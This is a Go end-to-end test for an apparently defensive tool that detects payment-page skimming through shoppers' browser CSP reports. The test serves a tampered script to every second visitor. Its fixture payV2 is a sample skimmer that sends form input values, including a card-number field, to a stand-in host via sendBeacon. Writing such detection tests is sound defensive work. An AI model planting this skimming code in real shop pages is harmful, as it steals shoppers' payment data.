package web

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	skimguard "github.com/skimguard/skimguard"
	"github.com/skimguard/skimguard/alerts"
	"github.com/skimguard/skimguard/baseline"
	"github.com/skimguard/skimguard/csp"
	"github.com/skimguard/skimguard/internal/browsertest"
	"github.com/skimguard/skimguard/monitor"
	"github.com/skimguard/skimguard/sqlite"
)

// The shop's payment page: a stable inline script and the shop's payment
// script, which the attacker changes for every second request only.
const (
	shopInline = `window.shopReady = true;`
	payV1      = `document.addEventListener("submit", function (e) { window.paid = true; });`
	payV2      = payV1 + `document.addEventListener("change", function (e) { navigator.sendBeacon("https://127.0.0.66/c", e.target.value); });`
)

func sha(src string) string {
	h := sha256.Sum256([]byte(src))
	return hex.EncodeToString(h[:])
}

// Real shoppers as sensors, end to end over HTTPS in real Chromium: the
// shop's checkout carries the policy generated from its approved baseline,
// and skimguard's collector receives what the browser reports. Clean
// visits raise nothing; a script the shop serves changed to every second
// visitor only, which the stored check never saw, becomes a finding from
// shoppers, alerted once.
func TestShoppersBrowsersReportAScriptServedToSomeVisitorsOnly(t *testing.T) {
	ctx := context.Background()
	var policy atomic.Pointer[[]csp.Header]
	var tamper atomic.Bool
	var payServed atomic.Int64
	shop := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/checkout":
			if hs := policy.Load(); hs != nil {
				for _, h := range *hs {
					w.Header().Set(h.Name, h.Value)
				}
			}
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprintf(w, `<!doctype html><title>Checkout</title><script>%s</script><script src="/static/pay.js"></script><form><input name="cc-number"></form>`, shopInline)
		case "/static/pay.js":
			w.Header().Set("Content-Type", "application/javascript")
			w.Header().Set("Cache-Control", "no-store")
			src := payV1
			if n := payServed.Add(1); tamper.Load() && n%2 == 0 {
				src = payV2
			}
			fmt.Fprint(w, src)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(shop.Close)
	page := skimguard.Page{Site: "shop", Name: "checkout", URL: shop.URL + "/checkout"}
	payURL := shop.URL + "/static/pay.js"

	// The approved baseline, and a check that saw the clean page.
	store, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "sg.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	clean := &skimguard.Observation{Site: "shop", Page: "checkout", URL: page.URL, FinalURL: page.URL, Status: 200,
		Scripts: []skimguard.Script{
			{Kind: skimguard.ScriptInline, Frame: page.URL, Ordinal: 1, Location: "line 1 col 41", SHA256: sha(shopInline), Size: len(shopInline), Source: shopInline, LoadedBy: "parser"},
			{Kind: skimguard.ScriptExternal, URL: payURL, Frame: page.URL, Ordinal: 1, SHA256: sha(payV1), Size: len(payV1), Source: payV1, LoadedBy: "parser"},
		},
		Connections: []skimguard.Connection{{Origin: skimguard.Origin(shop.URL), Types: []string{"Document", "Script"}, Count: 2}},
	}
	b, err := baseline.Learn([]*skimguard.Observation{clean, clean}, "alice", "onboarding", time.Now().Add(-time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	b.Site, b.Page, b.URL = page.Site, page.Name, page.URL
	if err := store.SaveBaseline(ctx, b); err != nil {
		t.Fatal(err)
	}
	if err := store.SaveScan(ctx, &skimguard.Scan{Site: page.Site, Page: page.Name, URL: page.URL, StartedAt: time.Now().Add(-time.Minute),
		Status: skimguard.ScanOK, BaselineVersion: b.Version, Observation: clean}); err != nil {
		t.Fatal(err)
	}

	// skimguard's collector, over HTTPS as browsers require.
	alerted := &lockedBuffer{}
	counted := &counts{}
	mon := &monitor.Monitor{Store: store}
	mon.SetSinks([]alerts.Sink{alerts.Console{W: alerted}})
	srv, err := New(Options{Store: store, Resolve: mon.Resolve, Token: apiToken, Logger: slog.New(slog.DiscardHandler),
		Pages:     func() []skimguard.Page { return []skimguard.Page{page} },
		Collector: &Collector{Reports: store, Collect: (&monitor.Shoppers{Monitor: mon, Store: store}).Collect, Counter: counted},
	})
	if err != nil {
		t.Fatal(err)
	}
	collector := httptest.NewTLSServer(srv)
	t.Cleanup(collector.Close)
	token, hash := NewReportToken()
	if err := store.SetReportToken(ctx, page.Site, hash, "alice"); err != nil {
		t.Fatal(err)
	}

	p := csp.Generate(b, []*skimguard.Observation{clean, clean}, csp.Options{ReportTo: collector.URL + ReportPath(page.Site, token)})
	policy.Store(&p.Headers)
	t.Logf("the shop's checkout carries:\n%s: %s", p.Headers[0].Name, p.Headers[0].Value)

	browser := browsertest.New(t, browsertest.TrustCertificate(shop.Certificate()), browsertest.ShortReportingDelay())
	visit := func() {
		t.Helper()
		vctx, cancel := context.WithTimeout(browser, 30*time.Second)
		defer cancel()
		if err := chromedp.Do(vctx, chromedp.Navigate(page.URL), chromedp.WaitReady(`input[name=cc-number]`)); err != nil {
			t.Fatalf("visit the checkout: %v", err)
		}
	}
	// hashes counts the script hashes reported for pay.js.
	hashes := func() (total int64, byHash map[string]skimguard.ShopperReport) {
		rs, err := store.Reports(ctx, skimguard.ReportFilter{Site: page.Site, Page: page.Name})
		if err != nil {
			t.Fatal(err)
		}
		byHash = map[string]skimguard.ShopperReport{}
		for _, r := range rs {
			if r.Type == skimguard.ReportScriptHash && r.Subject == payURL {
				total += r.Count
				byHash[r.Hash] = r
			}
		}
		return total, byHash
	}
	// Reports come within a second or so with the short delay; the wait
	// is for them, with a deadline, never a fixed sleep.
	waitFor := func(d time.Duration, what string, cond func() bool) {
		t.Helper()
		deadline := time.Now().Add(d)
		for !cond() {
			if time.Now().After(deadline) {
				t.Fatalf("timed out after %s waiting for %s; collector counted %v", d, what, counted)
			}
			time.Sleep(100 * time.Millisecond)
		}
	}

	t.Run("clean visits report the approved script and raise nothing", func(t *testing.T) {
		for i := int64(1); i <= 2; i++ {
			visit()
			waitFor(30*time.Second, fmt.Sprintf("visit %d's hash of pay.js", i), func() bool { n, _ := hashes(); return n >= i })
		}
		_, byHash := hashes()
		if r, ok := byHash[skimguard.ScriptHash(sha(payV1))]; len(byHash) != 1 || !ok || r.Verdict != skimguard.VerdictApproved {
			t.Fatalf("reported hashes %+v, want the approved one only", byHash)
		}
		rs, _ := store.Reports(ctx, skimguard.ReportFilter{Site: page.Site})
		for _, r := range rs {
			if r.Type == skimguard.ReportViolation {
				t.Errorf("the clean page broke its own policy: %+v", r)
			}
		}
		if open, _ := store.Findings(ctx, skimguard.FindingFilter{Status: skimguard.StatusOpen}); len(open) != 0 {
			t.Fatalf("clean visits opened findings: %+v", open)
		}
		if alerted.String() != "" {
			t.Fatalf("clean visits alerted:\n%s", alerted.String())
		}
	})

	tamper.Store(true)
	t.Run("a script changed for every second visitor becomes a finding from shoppers, alerted once", func(t *testing.T) {
		before, _ := hashes()
		for i := int64(1); i <= 4; i++ {
			visit()
			waitFor(30*time.Second, fmt.Sprintf("tampered visit %d's hash of pay.js", i), func() bool { n, _ := hashes(); return n >= before+i })
		}
		_, byHash := hashes()
		bad, ok := byHash[skimguard.ScriptHash(sha(payV2))]
		if !ok || bad.Verdict != skimguard.VerdictFinding || bad.FindingID == 0 || bad.Count != 2 {
			t.Fatalf("the changed script's aggregate: %+v (all: %+v)", bad, byHash)
		}
		if good := byHash[skimguard.ScriptHash(sha(payV1))]; good.Verdict != skimguard.VerdictApproved {
			t.Errorf("the clean script's aggregate: %+v", good)
		}
		fs, _ := store.Findings(ctx, skimguard.FindingFilter{IDs: []int64{bad.FindingID}})
		if len(fs) != 1 {
			t.Fatalf("no finding %d", bad.FindingID)
		}
		f := fs[0]
		if f.Kind != skimguard.KindScriptChanged || f.Subject != payURL || f.Evidence.Source != skimguard.SourceShoppers ||
			f.Evidence.After != skimguard.ScriptHash(sha(payV2)) || f.ScanID != 0 || !strings.Contains(f.Detail, "HeadlessChrome") {
			t.Errorf("finding %+v", f)
		}
		// The stored check never saw the changed script.
		scans, _ := store.Scans(ctx, skimguard.ScanFilter{Site: page.Site, Page: page.Name})
		for _, s := range scans {
			full, _ := store.Scan(ctx, s.ID)
			for _, sc := range full.Observation.Scripts {
				if sc.SHA256 == sha(payV2) {
					t.Fatalf("scan %d saw the changed script: this test proves nothing", s.ID)
				}
			}
		}
		if n := strings.Count(alerted.String(), "script.changed"); n != 1 {
			t.Errorf("alerted %d times, want once:\n%s", n, alerted.String())
		}
		if counted.get("received shop integrity-violation") == 0 {
			t.Errorf("no integrity-violation reports counted: %v", counted)
		}
	})

	t.Run("a page still carrying a rotated token gets its browsers' reports refused", func(t *testing.T) {
		_, newHash := NewReportToken()
		if err := store.SetReportToken(ctx, page.Site, newHash, "alice"); err != nil {
			t.Fatal(err)
		}
		before, _ := hashes()
		visit()
		waitFor(30*time.Second, "the browser's reports to be refused", func() bool { return counted.get("rejected token") > 0 })
		if after, _ := hashes(); after != before {
			t.Errorf("reports under the old token were kept: %d hashes, were %d", after, before)
		}
	})
}
